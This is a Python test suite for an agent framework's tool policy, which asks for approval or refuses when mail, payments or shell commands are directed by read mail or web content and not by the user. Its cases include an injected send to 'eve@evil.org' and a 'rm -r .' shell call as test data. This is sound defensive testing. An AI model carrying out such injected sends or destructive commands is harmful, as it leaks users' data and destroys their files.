"""Policies for tools that send, spend or execute: what runs, what asks, what is refused, and why."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trivium import Agent, Message, Module
from trivium.actions import ApprovalEvent, ApprovalRequest, Denied, Tool
from trivium.exceptions import ArgumentTypeError, ConfigurationError, PolicyRefusedError, ToolDefinitionError
from trivium.policies import Policy, Rule, SinkCall, Source
from trivium.testing import ScriptedModel, call_tool

from ._office import OPEN, READ, TO_BOB, TO_EVE, TODAY, Outbox


def ask(
    turns: Sequence[Any], question: str, policy: Policy | None, approves: Any = False
) -> tuple[Outbox, Message, list[str]]:
    """Run an agent with a scripted model; return its outbox, its answer, and the reasons of what was asked."""
    outbox, asked = Outbox(), list[str]()

    def approve(request: ApprovalRequest) -> Any:
        asked.append(request.why)
        return approves

    agent = Agent(ScriptedModel([*turns, "done"]), tools=outbox.tools(), approve=approve, policy=policy)
    return outbox, agent(question), asked


@pytest.mark.parametrize(
    ("turns", "question", "sent", "asks"),
    [
        ([TO_EVE], "Hi", ["eve@evil.org"], 0),  # nothing was read: it is the model's own idea
        ([TODAY, TO_EVE], "Hi", ["eve@evil.org"], 0),  # nor here: the program's own data
        ([READ, TO_EVE], "Read my mail.", [], 1),
        ([OPEN, TO_EVE], "Read the page.", [], 1),
        ([OPEN, READ, TODAY, TO_EVE], "Read.", [], 1),
        ([[READ, call_tool("send_mail", 1, to="eve@evil.org")]], "Read.", [], 1),  # at once
        ([READ, TO_BOB], "Read my mail, and tell bob@x.org.", ["bob@x.org"], 0),
        ([READ, TO_BOB], "Read my mail, and tell (Bob@X.org)!", ["bob@x.org"], 0),
        ([READ, TO_BOB], "Read my mail, and tell bigbob@x.org", [], 1),
        ([READ, TO_BOB], "Read my mail, and tell bob@x.org.evil.com", [], 1),
        ([READ, call_tool("send_mail", to=["bob@x.org", "eve@evil.org"])], "Tell bob@x.org.", [], 1),
        ([READ, call_tool("send_mail", to="bob@x.org", text="the key")], "Tell bob@x.org.", ["bob@x.org"], 0),
        ([READ, call_tool("send_mail", to="", text="x")], "Read.", [], 1),
        ([READ, call_tool("pay", amount=50, account="DE7")], "Pay 50 to DE7.", ["50.0 to DE7"], 0),
        ([READ, call_tool("pay", amount=50, account="13")], "Pay 50 on June 13.", [], 1),  # numbers stand in many texts
        ([READ, call_tool("pay", amount=500, account="DE7")], "Pay 50 to DE7.", [], 1),
        ([READ, call_tool("pay", amount=50, account="EV1L")], "Pay 50 to DE7.", [], 1),
        ([READ, call_tool("shell", command="rm -r .")], "Tidy up.", [], 1),
        ([READ, call_tool("shell", command="ls -l")], "Execute `ls -l` please", ["ls -l"], 0),
    ],
    ids=str,
)
def test_what_was_read_directs_no_sink(turns: list[Any], question: str, sent: list[str], asks: int) -> None:
    outbox, answer, asked = ask(turns, question, Policy())
    assert (outbox.sent, len(asked)) == (sent, asks)
    assert answer.content == "done"
    sinks = [name for name in ("send_mail", "pay", "shell") if f"'{name}'" in str(turns)]
    assert len(ask(turns, question, None)[0].sent) == len(sinks) == max(asks, len(sent))


def test_the_reason_names_the_effect_the_argument_and_what_was_read() -> None:
    outbox, _, asked = ask([OPEN, READ, TO_EVE], "Read.", Policy(), approves=True)
    assert asked == [
        "send_mail sends data out, and to='eve@evil.org' stands in nothing that you wrote; "
        "it may come from the tool read_mail, the web (open_page)"
    ]
    assert outbox.sent == ["eve@evil.org"]


def test_a_call_that_asks_has_its_reason_with_the_answer_and_the_event() -> None:
    outbox, reasons = Outbox(), list[str]()

    def listen(event: object) -> None:
        if isinstance(event, ApprovalEvent):
            reasons.append(event.data.reason)

    model = ScriptedModel([READ, TO_EVE, "done"])
    Agent(model, tools=outbox.tools())("Read.", policy=Policy(), approve=lambda _: Denied("never"), listeners=[listen])
    assert reasons == ["never"]
    assert "it may come from the tool read_mail; never" in model.requests[-1].messages[-1]["content"]


def test_nobody_to_ask_is_a_refusal() -> None:
    outbox = Outbox()
    Agent(ScriptedModel([READ, TO_EVE, "done"]), tools=outbox.tools(), policy=Policy())("Read.")
    assert outbox.sent == []


# ---- rules
@pytest.mark.parametrize(
    ("policy", "turns", "sent", "asks"),
    [
        (Policy([Rule("refuse", sink="executes")]), [call_tool("shell", command="ls")], [], 0),
        (Policy([Rule("refuse", sink="executes")]), [TO_EVE], ["eve@evil.org"], 0),
        (Policy([Rule("ask", sink="sends", source="model")]), [TO_EVE], [], 1),
        (
            Policy([Rule("ask", sink="spends")]),
            [call_tool("pay", amount=5, account="me")],
            [],
            1,
        ),  # the user's words too
        (Policy([Rule("run", source="web")]), [OPEN, TO_EVE], ["eve@evil.org"], 0),
        (Policy([Rule("run", source="web")]), [OPEN, READ, TO_EVE], [], 1),
        (Policy([Rule("run", source="tool", name="read_*")]), [READ, TO_EVE], ["eve@evil.org"], 0),
        (Policy([Rule("refuse", source="web"), Rule("run")]), [READ, OPEN, TO_EVE], [], 0),
        (Policy([Rule("run"), Rule("refuse", source="web")]), [READ, OPEN, TO_EVE], ["eve@evil.org"], 0),
        (Policy(otherwise="refuse"), [READ, TO_EVE], [], 0),
        (Policy(otherwise="run"), [READ, TO_EVE], ["eve@evil.org"], 0),
    ],
    ids=str,
)
def test_rules(policy: Policy, turns: list[Any], sent: list[str], asks: int) -> None:
    outbox, _, asked = ask(turns, "Pay 5 to me.", policy)
    assert (outbox.sent, len(asked)) == (sent, asks)


def test_a_refusal_says_which_sources_decided() -> None:
    outbox, errors = Outbox(), list[BaseException | None]()

    def listen(event: Any) -> None:
        if event.kind == "ended" and event.node.name == "tool:send_mail":
            errors.append(event.data)

    Agent(ScriptedModel([OPEN, TO_EVE, "done"]), tools=outbox.tools(), policy=Policy(otherwise="refuse"))(
        "Read.", listeners=[listen]
    )
    (error,) = errors
    assert isinstance(error, PolicyRefusedError)
    assert (error.tool, error.sources) == ("send_mail", {Source("web", "open_page")})
    assert "the policy refuses it" in str(error)


class Outer(Module):
    """Calls another module."""

    def __init__(self, inner: Module) -> None:
        super().__init__()
        self.inner = inner

    async def forward(self, message: Message) -> Message:
        return await self.inner.acall(message)


@pytest.mark.parametrize("outer", [Policy(otherwise="refuse"), None], ids=str)
@pytest.mark.parametrize("inner", [Policy(otherwise="run"), Policy(otherwise="refuse"), None], ids=str)
@pytest.mark.parametrize("where", ["call", "attribute"])
def test_policies_are_inherited_and_the_strictest_counts(outer: Any, inner: Any, where: str) -> None:
    outbox = Outbox()
    module = Outer(Agent(ScriptedModel([READ, TO_EVE, "done"]), tools=outbox.tools(), policy=inner))
    if where == "attribute":
        module.policy = outer
        module("Read.")
    else:
        module("Read.", policy=outer)
    strict = [each for each in (outer, inner) if each is not None and each.otherwise == "refuse"]
    assert outbox.sent == ([] if strict else ["eve@evil.org"])


def test_impossible_policies_and_effects_are_refused() -> None:
    wrong: list[tuple[type[Exception], str, Callable[[], object]]] = [
        (ConfigurationError, "action of a rule", lambda: Rule("stop")),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "sink of a rule", lambda: Rule("ask", sink="send")),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "source of a rule", lambda: Rule("ask", source="mail")),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "otherwise", lambda: Policy(otherwise="never")),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "made of rules", lambda: Policy(["ask"])),  # type: ignore[list-item]  # pyright: ignore
        (ArgumentTypeError, "policy", lambda: Agent("m")("hi", policy="strict")),  # type: ignore[arg-type]  # pyright: ignore
        (ArgumentTypeError, "policy", lambda: Agent("m", policy=[Rule("ask")])),  # type: ignore[arg-type]  # pyright: ignore
        (ToolDefinitionError, "the argument too", lambda: Tool.of(len_of).replace(sends=("too",))),
        (ToolDefinitionError, "spends is True", lambda: Tool.of(len_of).replace(spends="text")),
        (ToolDefinitionError, "the source of a tool", lambda: Tool.of(len_of).replace(source="mail")),
    ]
    for kind, text, make in wrong:
        with pytest.raises(kind, match=text):
            make()


def len_of(text: str) -> int:
    """Count characters."""
    return len(text)


def test_a_policy_of_a_call_does_not_replace_that_of_the_agent() -> None:
    outbox = Outbox()
    agent = Agent(ScriptedModel([READ, TO_EVE, "done"]), tools=outbox.tools(), policy=Policy(otherwise="refuse"))
    agent("Read.", policy=Policy(otherwise="run"))
    assert outbox.sent == []


# ---- what stands in the user's words
words = st.text(st.characters(categories=["L", "N"]), min_size=1, max_size=8)
joined = st.lists(words, min_size=1, max_size=3).map("@".join)


def decide(value: object, text: str) -> str:
    read = frozenset({Source("web", "open")})
    return Policy().decide(SinkCall("send", {"sends": True}, {"to": value}, read, [text])).action


@given(
    joined,
    st.lists(words, max_size=4),
    st.integers(0, 4),
    st.sampled_from(["{}", "“{}”", "({})", "{}.", "{}, so", "<{}>"]),
)
def test_a_value_that_stands_in_the_text_is_the_users(value: str, others: list[str], at: int, frame: str) -> None:
    text = " ".join([*others[:at], frame.format(value), *others[at:]])
    assert decide(["bob@x.org", value], f"bob@x.org {text}") == "run"
    assert decide([value, {value: None, "": value}, "bob@x.org"], f"{text} bob@x.org") == "run"


@given(joined, st.sampled_from("ab1@-_/.+"))
def test_a_part_of_a_word_of_the_text_is_not(value: str, more: str) -> None:
    assert decide(value, f"to {value}{more}x now") == "ask"
    assert decide(value, f"to x{more}{value} now") == "ask"


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.binary(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    )
)
def test_any_argument_can_be_decided_on(value: object) -> None:
    assert decide(value, "nothing of it, hopefully") in ("run", "ask")


@pytest.mark.parametrize("value", [True, 13, 13.0, "13", "", None, [], {}, "2024-05-20", "12:00", "no"])
def test_what_stands_in_many_texts_proves_nothing(value: object) -> None:
    assert decide(value, "true True yes, no: at 12:00 on 13 June, 2024-05-20") == "ask"
    if value is not True:
        assert decide([value, "bob@x.org"], f"{value} of bob@x.org") == "run"


def test_a_sink_without_arguments_is_directed_by_all_that_was_read() -> None:
    web = Source("web", "open")
    call = SinkCall("report", {"sends": True}, {}, frozenset({web}), ["report"])
    assert Policy().decide(call) == ("ask", "report sends data out, directed by the web (open)", {web})
    assert Policy().decide(SinkCall("report", {"sends": True}, {}, frozenset(), ["report"])).action == "run"
